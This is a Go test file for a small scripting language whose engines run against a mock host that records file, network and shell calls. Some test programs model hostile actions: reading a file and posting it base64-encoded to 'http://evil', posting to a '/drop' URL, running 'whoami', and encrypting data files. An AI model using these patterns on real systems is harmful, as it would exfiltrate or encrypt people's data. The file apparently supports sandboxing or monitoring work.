package minilang

import (
	"errors"
	"fmt"
	"strings"
	"testing"
	"testing/quick"
)

// memHost is a self-contained Host for engine tests.
type memHost struct {
	files    map[string]string
	requests []string
	shells   []string
	spun     int64
	denyNet  bool
}

func newMemHost() *memHost {
	return &memHost{files: map[string]string{}}
}

func (h *memHost) ReadFile(path string) ([]byte, error) {
	data, ok := h.files[path]
	if !ok {
		return nil, fmt.Errorf("no such file: %s", path)
	}
	return []byte(data), nil
}

func (h *memHost) WriteFile(path string, data []byte) error {
	h.files[path] = string(data)
	return nil
}

func (h *memHost) DeleteFile(path string) error {
	if _, ok := h.files[path]; !ok {
		return fmt.Errorf("no such file: %s", path)
	}
	delete(h.files, path)
	return nil
}

func (h *memHost) RenameFile(oldPath, newPath string) error {
	data, ok := h.files[oldPath]
	if !ok {
		return fmt.Errorf("no such file: %s", oldPath)
	}
	delete(h.files, oldPath)
	h.files[newPath] = data
	return nil
}

func (h *memHost) ListFiles(dir string) ([]string, error) {
	var out []string
	for p := range h.files {
		if dir == "" || strings.HasPrefix(p, dir) {
			out = append(out, p)
		}
	}
	// Deterministic ordering for tests.
	for i := 1; i < len(out); i++ {
		for j := i; j > 0 && out[j] < out[j-1]; j-- {
			out[j], out[j-1] = out[j-1], out[j]
		}
	}
	return out, nil
}

func (h *memHost) HTTPRequest(method, url string, body []byte) (int, []byte, error) {
	if h.denyNet {
		return 0, nil, errors.New("egress denied")
	}
	h.requests = append(h.requests, method+" "+url+" "+fmt.Sprint(len(body)))
	return 200, []byte("ok"), nil
}

func (h *memHost) Shell(cmd string) (string, error) {
	h.shells = append(h.shells, cmd)
	return "out\n", nil
}

func (h *memHost) Spin(ms int64) { h.spun += ms }

func (h *memHost) Hostname() string { return "testhost" }

func (h *memHost) Env(name string) string { return map[string]string{"USER": "jovyan"}[name] }

// run executes src on a fresh engine pair, failing on an error or on
// any divergence between the VM and the interpreter, and returns the
// stdout both produced.
func run(t *testing.T, src string) string {
	t.Helper()
	out, err := newEnginePair(Limits{}).runBoth(t, src)
	if err != nil {
		t.Fatalf("run: %v\nsource:\n%s", err, src)
	}
	return out
}

// runErr is run for a program that must fail on both engines.
func runErr(t *testing.T, src string) error {
	t.Helper()
	_, err := newEnginePair(Limits{}).runBoth(t, src)
	if err == nil {
		t.Fatalf("expected error for:\n%s", src)
	}
	return err
}

func TestArithmetic(t *testing.T) {
	out := run(t, `print(1 + 2 * 3, 10 / 4, 10 % 3, 2 - 5)`)
	if out != "7 2.5 1 -3\n" {
		t.Fatalf("out = %q", out)
	}
}

func TestStringOps(t *testing.T) {
	out := run(t, `s = "abc" + "def"
print(s, len(s), upper(s), s[0], s[-1])`)
	if out != "abcdef 6 ABCDEF a f\n" {
		t.Fatalf("out = %q", out)
	}
}

func TestStringRepetition(t *testing.T) {
	out := run(t, `print("ab" * 3)`)
	if out != "ababab\n" {
		t.Fatalf("out = %q", out)
	}
}

func TestComparisons(t *testing.T) {
	out := run(t, `print(1 < 2, 2 <= 2, 3 > 4, "a" == "a", "a" != "b", "abc" < "abd")`)
	if out != "1 1 0 1 1 1\n" {
		t.Fatalf("out = %q", out)
	}
}

func TestLogicalShortCircuit(t *testing.T) {
	// The right side would fail (NameError) if evaluated.
	out := run(t, `print(0 and missing_var, 1 or missing_var)`)
	if out != "0 1\n" {
		t.Fatalf("out = %q", out)
	}
}

func TestNot(t *testing.T) {
	out := run(t, `print(not 0, not 1, not "", not "x")`)
	if out != "1 0 1 0\n" {
		t.Fatalf("out = %q", out)
	}
}

func TestIfElse(t *testing.T) {
	out := run(t, `x = 5
if x > 3
    print("big")
else
    print("small")
end
if x > 10
    print("huge")
end`)
	if out != "big\n" {
		t.Fatalf("out = %q", out)
	}
}

func TestWhileAndBreak(t *testing.T) {
	out := run(t, `i = 0
while 1
    i = i + 1
    if i >= 5
        break
    end
end
print(i)`)
	if out != "5\n" {
		t.Fatalf("out = %q", out)
	}
}

func TestForOverList(t *testing.T) {
	out := run(t, `total = 0
for x in [1, 2, 3, 4]
    total = total + x
end
print(total)`)
	if out != "10\n" {
		t.Fatalf("out = %q", out)
	}
}

func TestForOverRange(t *testing.T) {
	out := run(t, `s = 0
for i in range(5)
    s = s + i
end
print(s)`)
	if out != "10\n" {
		t.Fatalf("out = %q", out)
	}
}

func TestForOverStringLines(t *testing.T) {
	out := run(t, `n = 0
for line in "a\nb\nc"
    n = n + 1
end
print(n)`)
	if out != "3\n" {
		t.Fatalf("out = %q", out)
	}
}

func TestSplitJoin(t *testing.T) {
	out := run(t, `parts = split("a,b,c", ",")
print(len(parts), parts[1], join(parts, "-"))`)
	if out != "3 b a-b-c\n" {
		t.Fatalf("out = %q", out)
	}
}

func TestListOps(t *testing.T) {
	out := run(t, `l = [1, 2]
l = append(l, 3)
l2 = l + [4]
print(len(l), len(l2), l2[3])`)
	if out != "3 4 4\n" {
		t.Fatalf("out = %q", out)
	}
}

func TestFileBuiltins(t *testing.T) {
	p := newEnginePair(Limits{})
	p.mi.files["data/a.txt"] = "hello"
	p.mv.files["data/a.txt"] = "hello"
	out, err := p.runBoth(t, `data = read_file("data/a.txt")
write_file("data/b.txt", data + " world")
rename_file("data/b.txt", "data/c.txt")
print(read_file("data/c.txt"))
delete_file("data/a.txt")
print(len(list_files("data")))`)
	if err != nil {
		t.Fatal(err)
	}
	if out != "hello world\n1\n" {
		t.Fatalf("out = %q", out)
	}
	if c := p.vm.Counters(); c.BytesRead == 0 || c.BytesWritten == 0 {
		t.Fatal("usage counters not updated")
	}
}

func TestEncryptDecryptInvolution(t *testing.T) {
	out := run(t, `data = "sensitive model weights 0123456789"
enc = encrypt(data, "key")
print(enc == data)
print(decrypt(enc, "key") == data)
print(decrypt(enc, "wrong") == data)`)
	if out != "0\n1\n0\n" {
		t.Fatalf("out = %q", out)
	}
}

func TestEncryptProducesHighEntropy(t *testing.T) {
	p := newEnginePair(Limits{})
	plain := strings.Repeat("science data rows and columns ", 200)
	p.mi.files["d.csv"] = plain
	p.mv.files["d.csv"] = plain
	if _, err := p.runBoth(t, `write_file("d.enc", encrypt(read_file("d.csv"), "k"))`); err != nil {
		t.Fatal(err)
	}
	enc := p.mv.files["d.enc"]
	if len(enc) != len(plain) {
		t.Fatalf("length changed: %d vs %d", len(enc), len(plain))
	}
	// Count distinct bytes as a cheap entropy proxy.
	distinct := map[byte]bool{}
	for i := 0; i < len(enc); i++ {
		distinct[enc[i]] = true
	}
	if len(distinct) < 200 {
		t.Fatalf("ciphertext has only %d distinct bytes", len(distinct))
	}
}

func TestXorKeystreamProperty(t *testing.T) {
	f := func(data []byte, key string) bool {
		enc := xorKeystream(data, key)
		dec := xorKeystream([]byte(enc), key)
		return dec == string(data)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestNetworkBuiltins(t *testing.T) {
	p := newEnginePair(Limits{})
	out, err := p.runBoth(t, `status = http_post("http://x.example/drop", "payload")
body = http_get("http://x.example/check")
print(status, body)`)
	if err != nil {
		t.Fatal(err)
	}
	if out != "200 ok\n" {
		t.Fatalf("out = %q", out)
	}
	if len(p.mv.requests) != 2 || p.vm.NetCalls != 2 {
		t.Fatalf("requests = %v netcalls = %d", p.mv.requests, p.vm.NetCalls)
	}
}

func TestNetworkDeniedSurfacesError(t *testing.T) {
	p := newEnginePair(Limits{})
	p.mi.denyNet = true
	p.mv.denyNet = true
	_, err := p.runBoth(t, `http_post("http://x/", "data")`)
	var rt *RuntimeError
	if !errors.As(err, &rt) || rt.EName != "OSError" {
		t.Fatalf("err = %v", err)
	}
}

func TestShellAndSpin(t *testing.T) {
	p := newEnginePair(Limits{})
	if _, err := p.runBoth(t, `print(shell("whoami"))
spin(5000)`); err != nil {
		t.Fatal(err)
	}
	host, vm := p.mv, p.vm
	if len(host.shells) != 1 || host.spun != 5000 || vm.CPUMillis != 5000 || vm.ShellCalls != 1 {
		t.Fatalf("shells=%v spun=%d cpu=%d", host.shells, host.spun, vm.CPUMillis)
	}
}

func TestSpinCapped(t *testing.T) {
	p := newEnginePair(Limits{MaxSpinMillis: 1000})
	if _, err := p.runBoth(t, `spin(999999)`); err != nil {
		t.Fatal(err)
	}
	if p.mv.spun != 1000 {
		t.Fatalf("spun = %d", p.mv.spun)
	}
}

func TestHostnameEnv(t *testing.T) {
	out := run(t, `print(hostname(), env("USER"), env("MISSING"))`)
	if out != "testhost jovyan \n" {
		t.Fatalf("out = %q", out)
	}
}

func TestHashAndB64(t *testing.T) {
	out := run(t, `print(sha256("abc"))
print(b64encode("hi"), b64decode("aGk="))`)
	want := "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad\naGk= hi\n"
	if out != want {
		t.Fatalf("out = %q", out)
	}
}

func TestVariablesPersistAcrossRuns(t *testing.T) {
	p := newEnginePair(Limits{})
	if _, err := p.runBoth(t, `x = 41`); err != nil {
		t.Fatal(err)
	}
	out, err := p.runBoth(t, `print(x + 1)`)
	if err != nil {
		t.Fatal(err)
	}
	if out != "42\n" {
		t.Fatalf("out = %q", out)
	}
}

func TestErrors(t *testing.T) {
	cases := []struct {
		src   string
		ename string
	}{
		{`print(nope)`, "NameError"},
		{`nope()`, "NameError"},
		{`print(1 / 0)`, "ZeroDivisionError"},
		{`print([1][5])`, "IndexError"},
		{`print("a" + 1)`, "TypeError"},
		{`for x in 5
print(x)
end`, "TypeError"},
		{`read_file("missing")`, "OSError"},
		{`num("not a number")`, "ValueError"},
		{`len(1)`, "TypeError"},
		{`print("a" < 1)`, "TypeError"},
	}
	for _, c := range cases {
		err := runErr(t, c.src)
		var rt *RuntimeError
		if !errors.As(err, &rt) {
			t.Errorf("%q: err = %T %v", c.src, err, err)
			continue
		}
		if rt.EName != c.ename {
			t.Errorf("%q: ename = %s, want %s", c.src, rt.EName, c.ename)
		}
	}
}

func TestSyntaxErrors(t *testing.T) {
	for _, src := range []string{
		`x = `,
		`if 1`,
		`print("unterminated`,
		`x = 1 +`,
		`end`,
		`for x [1]`,
		`@`,
	} {
		_, err := newEnginePair(Limits{}).runBoth(t, src)
		if err == nil {
			t.Errorf("%q: accepted", src)
			continue
		}
		var se *SyntaxError
		var rt *RuntimeError
		if !errors.As(err, &se) && !errors.As(err, &rt) {
			t.Errorf("%q: err type %T", src, err)
		}
	}
}

func TestInfiniteLoopBudget(t *testing.T) {
	_, err := newEnginePair(Limits{MaxSteps: 10000}).runBoth(t, `while 1
x = 1
end`)
	var rt *RuntimeError
	if !errors.As(err, &rt) || rt.EName != "ResourceError" {
		t.Fatalf("err = %v", err)
	}
}

func TestOutputBudget(t *testing.T) {
	_, err := newEnginePair(Limits{MaxOutputBytes: 100}).runBoth(t, `while 1
print("aaaaaaaaaaaaaaaaaaaaaaaa")
end`)
	var rt *RuntimeError
	if !errors.As(err, &rt) || rt.EName != "ResourceError" {
		t.Fatalf("err = %v", err)
	}
}

func TestStringSizeBudget(t *testing.T) {
	_, err := newEnginePair(Limits{MaxValueBytes: 1 << 16}).runBoth(t, `s = "x"
while 1
s = s + s
end`)
	var rt *RuntimeError
	if !errors.As(err, &rt) || rt.EName != "ResourceError" {
		t.Fatalf("err = %v", err)
	}
}

func TestCommentsAndSemicolons(t *testing.T) {
	out := run(t, `# leading comment
x = 1; y = 2  # trailing comment
print(x + y)`)
	if out != "3\n" {
		t.Fatalf("out = %q", out)
	}
}

func TestProgramCallsRecorded(t *testing.T) {
	prog, err := Parse(`data = read_file("f")
http_post("http://evil", b64encode(data))`)
	if err != nil {
		t.Fatal(err)
	}
	joined := strings.Join(prog.Calls, ",")
	for _, want := range []string{"read_file", "http_post", "b64encode"} {
		if !strings.Contains(joined, want) {
			t.Errorf("calls = %v missing %s", prog.Calls, want)
		}
	}
}

func TestBuiltinNamesSorted(t *testing.T) {
	names := BuiltinNames()
	if len(names) < 20 {
		t.Fatalf("only %d builtins", len(names))
	}
	for i := 1; i < len(names); i++ {
		if names[i] < names[i-1] {
			t.Fatal("names not sorted")
		}
	}
}

func TestFormatValues(t *testing.T) {
	cases := map[string]Value{
		"nil":    Nil{},
		"42":     Number(42),
		"4.5":    Number(4.5),
		"x":      Str("x"),
		"[1, a]": List{Number(1), Str("a")},
	}
	for want, v := range cases {
		if got := Format(v); got != want {
			t.Errorf("Format(%v) = %q want %q", v, got, want)
		}
	}
}

func TestTruthy(t *testing.T) {
	if Truthy(Nil{}) || Truthy(Number(0)) || Truthy(Str("")) || Truthy(List{}) {
		t.Fatal("falsy values truthy")
	}
	if !Truthy(Number(1)) || !Truthy(Str("x")) || !Truthy(List{Number(1)}) {
		t.Fatal("truthy values falsy")
	}
}

func TestNegativeNumbers(t *testing.T) {
	out := run(t, `x = -5
print(x, -x, 3 + -2)`)
	if out != "-5 5 1\n" {
		t.Fatalf("out = %q", out)
	}
}

func TestNestedLoops(t *testing.T) {
	out := run(t, `total = 0
for i in range(3)
    for j in range(3)
        total = total + 1
    end
end
print(total)`)
	if out != "9\n" {
		t.Fatalf("out = %q", out)
	}
}

func TestBreakOnlyInnerLoop(t *testing.T) {
	out := run(t, `count = 0
for i in range(3)
    for j in range(10)
        if j >= 2
            break
        end
        count = count + 1
    end
end
print(count)`)
	if out != "6\n" {
		t.Fatalf("out = %q", out)
	}
}

func TestArityChecking(t *testing.T) {
	err := runErr(t, `len("a", "b")`)
	var rt *RuntimeError
	if !errors.As(err, &rt) || rt.EName != "TypeError" {
		t.Fatalf("err = %v", err)
	}
}
